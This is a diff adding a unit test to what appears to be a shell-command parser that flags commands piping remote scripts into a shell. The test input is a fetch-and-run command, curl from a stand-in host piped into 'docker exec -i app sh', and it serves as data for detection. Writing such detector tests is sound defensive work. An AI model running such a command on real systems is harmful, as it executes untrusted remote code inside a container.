@@ -249,6 +249,15 @@ describe('wrappers are peeled and recorded, outermost first', () => {
     expect(parsed[2]!.redirects).toEqual([]);
   });
 
+  it('a script piped into docker exec -i sh is a pipe into a shell, as it would be here', () => {
+    const parsed = segments('curl -s https://x.example/i.sh | docker exec -i app sh');
+    expect(parsed.map((s) => [s.argv.join(' '), s.flags.pipeToShell === true])).toEqual([
+      ['curl -s https://x.example/i.sh', true],
+      ['docker exec -i app', false],
+      ['sh', true],
+    ]);
+  });
+
   it('a heredoc fed to docker exec -i is stdin of the command inside; shell code inside is parsed, remote', () => {
     const sql = segments("docker exec -i db psql <<'SQL'\nSELECT 1;\nSQL");
     expect(sql[0]!.stdin).toBe('SELECT 1;\n');
